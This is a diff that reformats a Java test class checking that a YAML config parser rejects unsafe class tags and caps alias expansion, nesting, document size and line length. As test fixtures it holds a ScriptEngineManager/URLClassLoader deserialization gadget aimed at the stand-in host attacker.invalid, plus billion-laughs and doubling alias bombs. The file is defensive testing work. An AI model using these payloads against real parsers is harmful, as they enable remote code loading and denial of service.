@@ -22,19 +22,25 @@ class YamlSafetyTest {
 
   @Test
   void scriptEngineManagerPayloadIsRejectedAndNothingIsInstantiated() {
-    ConfigParseException e = yamlError("""
+    ConfigParseException e =
+        yamlError(
+            """
         exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.invalid/"]]]]
         """);
 
-    assertThat(e.problems()).extracting(Problem::toString).containsExactly(
-        "app.yaml:1:10: found unsupported tag '!!javax.script.ScriptEngineManager'" + ONLY_CORE,
-        "app.yaml:1:46: found unsupported tag '!!java.net.URLClassLoader'" + ONLY_CORE,
-        "app.yaml:1:74: found unsupported tag '!!java.net.URL'" + ONLY_CORE);
+    assertThat(e.problems())
+        .extracting(Problem::toString)
+        .containsExactly(
+            "app.yaml:1:10: found unsupported tag '!!javax.script.ScriptEngineManager'" + ONLY_CORE,
+            "app.yaml:1:46: found unsupported tag '!!java.net.URLClassLoader'" + ONLY_CORE,
+            "app.yaml:1:74: found unsupported tag '!!java.net.URL'" + ONLY_CORE);
   }
 
   @Test
   void classTagNeitherLoadsNorConstructsTheClass() {
-    ConfigParseException e = yamlError("""
+    ConfigParseException e =
+        yamlError(
+            """
         a: !!dev.hotconf.parse.Canary [x]
         b: !!dev.hotconf.parse.Canary
         c: !<tag:yaml.org,2002:dev.hotconf.parse.Canary> {}
@@ -49,14 +55,17 @@ class YamlSafetyTest {
   void classTagAtTheRootIsRejected() {
     ConfigParseException e = yamlError("!!javax.script.ScriptEngineManager [1]\n");
 
-    assertThat(e.problems()).extracting(Problem::toString).containsExactly(
-        "app.yaml:1:1: found unsupported tag '!!javax.script.ScriptEngineManager'" + ONLY_CORE,
-        "app.yaml:1:1: the document must be a mapping of keys to values, but it is a list");
+    assertThat(e.problems())
+        .extracting(Problem::toString)
+        .containsExactly(
+            "app.yaml:1:1: found unsupported tag '!!javax.script.ScriptEngineManager'" + ONLY_CORE,
+            "app.yaml:1:1: the document must be a mapping of keys to values, but it is a list");
   }
 
   @Test
   void localTagIsRejected() {
-    assertThat(yamlError("a: !foo bar\n")).hasMessage("app.yaml:1:4: found unsupported tag '!foo'" + ONLY_CORE);
+    assertThat(yamlError("a: !foo bar\n"))
+        .hasMessage("app.yaml:1:4: found unsupported tag '!foo'" + ONLY_CORE);
   }
 
   @Test
@@ -79,33 +88,43 @@ class YamlSafetyTest {
 
   @Test
   void timestampAndOmapTagsAreRejected() {
-    ConfigParseException e = yamlError("""
+    ConfigParseException e =
+        yamlError(
+            """
         a: !!timestamp 2001-12-14
         b: !!omap [x: 1]
         """);
 
-    assertThat(e.problems()).extracting(Problem::toString).containsExactly(
-        "app.yaml:1:4: found unsupported tag '!!timestamp'" + ONLY_CORE,
-        "app.yaml:2:4: found unsupported tag '!!omap'" + ONLY_CORE);
+    assertThat(e.problems())
+        .extracting(Problem::toString)
+        .containsExactly(
+            "app.yaml:1:4: found unsupported tag '!!timestamp'" + ONLY_CORE,
+            "app.yaml:2:4: found unsupported tag '!!omap'" + ONLY_CORE);
   }
 
   @Test
   void collectionTagOnAScalarOrTheWrongCollectionIsRejected() {
-    ConfigParseException e = yamlError("""
+    ConfigParseException e =
+        yamlError(
+            """
         a: !!map x
         b: !!seq {x: 1}
         c: !!str [1]
         """);
 
-    assertThat(e.problems()).extracting(Problem::toString).containsExactly(
-        "app.yaml:1:4: found unsupported tag '!!map'" + ONLY_CORE,
-        "app.yaml:2:4: found unsupported tag '!!seq'" + ONLY_CORE,
-        "app.yaml:3:4: found unsupported tag '!!str'" + ONLY_CORE);
+    assertThat(e.problems())
+        .extracting(Problem::toString)
+        .containsExactly(
+            "app.yaml:1:4: found unsupported tag '!!map'" + ONLY_CORE,
+            "app.yaml:2:4: found unsupported tag '!!seq'" + ONLY_CORE,
+            "app.yaml:3:4: found unsupported tag '!!str'" + ONLY_CORE);
   }
 
   @Test
   void coreTagsAreAccepted() {
-    ConfigObject root = yaml("""
+    ConfigObject root =
+        yaml(
+            """
         a: !!str 10
         b: !!int "7"
         c: !!float 3
@@ -116,30 +135,37 @@ class YamlSafetyTest {
         h: ! 12
         """);
 
-    assertThat(root.unwrapped()).hasToString("{a=10, b=7, c=3.0, d=true, e=null, f={x=1}, g=[1], h=12}");
+    assertThat(root.unwrapped())
+        .hasToString("{a=10, b=7, c=3.0, d=true, e=null, f={x=1}, g=[1], h=12}");
     assertThat(Parsing.value(root, "a")).isEqualTo("10");
     assertThat(Parsing.value(root, "h")).isEqualTo("12");
   }
 
   @Test
   void coreTagWithAnInvalidValueIsRejected() {
-    ConfigParseException e = yamlError("""
+    ConfigParseException e =
+        yamlError(
+            """
         a: !!int yes
         b: !!bool 1
         c: !!float x
         d: !!null x
         """);
 
-    assertThat(e.problems()).extracting(Problem::toString).containsExactly(
-        "app.yaml:1:4: value is not a valid !!int",
-        "app.yaml:2:4: value is not a valid !!bool",
-        "app.yaml:3:4: value is not a valid !!float",
-        "app.yaml:4:4: a !!null value must be empty, ~ or null");
+    assertThat(e.problems())
+        .extracting(Problem::toString)
+        .containsExactly(
+            "app.yaml:1:4: value is not a valid !!int",
+            "app.yaml:2:4: value is not a valid !!bool",
+            "app.yaml:3:4: value is not a valid !!float",
+            "app.yaml:4:4: a !!null value must be empty, ~ or null");
   }
 
   /** The classic billion laughs: 9 levels of 9 aliases each, 9^9 leaves once expanded. */
   static String billionLaughs() {
-    StringBuilder sb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+    StringBuilder sb =
+        new StringBuilder(
+            "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
     for (char c = 'b'; c <= 'i'; c++) {
       sb.append(c).append(": &").append(c).append(" [");
       for (int i = 0; i < 9; i++) {
@@ -160,7 +186,8 @@ class YamlSafetyTest {
     long millis = (System.nanoTime() - start) / 1_000_000;
     long allocated = allocatedBytes() - allocatedBefore;
     // a..e hold 66,429 leaves; line 6 adds 59,049 per alias: the third one passes 200,000
-    assertThat(e).hasMessage("app.yaml:6:14: document expands to more than 200000 values (maxValues)");
+    assertThat(e)
+        .hasMessage("app.yaml:6:14: document expands to more than 200000 values (maxValues)");
     assertThat(millis).as("parse time in ms").isLessThan(2_000);
     if (allocated >= 0) {
       assertThat(allocated).as("bytes allocated").isLessThan(64L * 1024 * 1024);
@@ -172,8 +199,15 @@ class YamlSafetyTest {
     // l0 has 2 leaves and each level doubles: l24 would be 2^25 leaves, with only 48 aliases
     StringBuilder sb = new StringBuilder("l0: &l0 [x, x]\n");
     for (int i = 1; i <= 24; i++) {
-      sb.append("l").append(i).append(": &l").append(i)
-          .append(" [*l").append(i - 1).append(", *l").append(i - 1).append("]\n");
+      sb.append("l")
+          .append(i)
+          .append(": &l")
+          .append(i)
+          .append(" [*l")
+          .append(i - 1)
+          .append(", *l")
+          .append(i - 1)
+          .append("]\n");
     }
     long allocatedBefore = allocatedBytes();
 
@@ -181,7 +215,8 @@ class YamlSafetyTest {
 
     long allocated = allocatedBytes() - allocatedBefore;
     // l0..l15 hold 131,070 leaves, l16's two aliases add 65,536 each: the second passes 200,000
-    assertThat(e).hasMessage("app.yaml:17:18: document expands to more than 200000 values (maxValues)");
+    assertThat(e)
+        .hasMessage("app.yaml:17:18: document expands to more than 200000 values (maxValues)");
     if (allocated >= 0) {
       assertThat(allocated).as("bytes allocated").isLessThan(64L * 1024 * 1024);
     }
@@ -287,14 +322,16 @@ class YamlSafetyTest {
     String tooDeep = String.join(".", java.util.Collections.nCopies(65, "k")) + ": 1\n";
 
     assertThat(yaml(ok)).isNotNull();
-    assertThat(yamlError(tooDeep).getMessage()).startsWith("app.yaml:1:1: key 'k.k.k")
+    assertThat(yamlError(tooDeep).getMessage())
+        .startsWith("app.yaml:1:1: key 'k.k.k")
         .endsWith("' makes the nesting depth exceed the limit of 64 (maxNestingDepth)");
   }
 
   @Test
   void aliasesCannotStackNestingBeyondTheLimit() {
     ParseLimits five = ParseLimits.builder().maxNestingDepth(5).build();
-    String doc = """
+    String doc =
+        """
         a: &x [[[1]]]
         b: [*x]
         c: [[*x]]
@@ -303,8 +340,9 @@ class YamlSafetyTest {
     // a is at levels 2-4; b puts that under one more list (5); c under two (6)
     ConfigParseException e = error(ConfigFormat.YAML, bytes(doc), five);
 
-    assertThat(e).hasMessage(
-        "app.yaml:3:6: alias '*x' makes the nesting depth exceed the limit of 5 (maxNestingDepth)");
+    assertThat(e)
+        .hasMessage(
+            "app.yaml:3:6: alias '*x' makes the nesting depth exceed the limit of 5 (maxNestingDepth)");
   }
 
   @Test
@@ -323,9 +361,12 @@ class YamlSafetyTest {
 
     ConfigParseException e = error(ConfigFormat.YAML, big, ParseLimits.defaults());
 
-    assertThat(e).hasMessage(
-        "app.yaml: document is 4194305 bytes, over the limit of 4194304 bytes (maxDocumentBytes)");
-    assertThat(e.problems()).singleElement().satisfies(p -> assertThat(p.origin().hasPosition()).isFalse());
+    assertThat(e)
+        .hasMessage(
+            "app.yaml: document is 4194305 bytes, over the limit of 4194304 bytes (maxDocumentBytes)");
+    assertThat(e.problems())
+        .singleElement()
+        .satisfies(p -> assertThat(p.origin().hasPosition()).isFalse());
   }
 
   @Test
@@ -347,8 +388,10 @@ class YamlSafetyTest {
     // SnakeYAML's reader is quadratic in the length of a single token or comment
     String doc = "a: 1\nb: " + "x".repeat(256 * 1024) + "\n";
 
-    assertThat(yamlError(doc)).hasMessage("app.yaml:2:262145: line is longer than 262144 characters, "
-        + "the limit for YAML (write a long value as a block scalar)");
+    assertThat(yamlError(doc))
+        .hasMessage(
+            "app.yaml:2:262145: line is longer than 262144 characters, "
+                + "the limit for YAML (write a long value as a block scalar)");
   }
 
   @Test
@@ -376,7 +419,8 @@ class YamlSafetyTest {
   /** Bytes this thread has allocated so far, or -1 where the JVM cannot tell. */
   static long allocatedBytes() {
     if (ManagementFactory.getThreadMXBean() instanceof com.sun.management.ThreadMXBean t
-        && t.isThreadAllocatedMemorySupported() && t.isThreadAllocatedMemoryEnabled()) {
+        && t.isThreadAllocatedMemorySupported()
+        && t.isThreadAllocatedMemoryEnabled()) {
       return t.getThreadAllocatedBytes(Thread.currentThread().getId());
     }
     return -1;
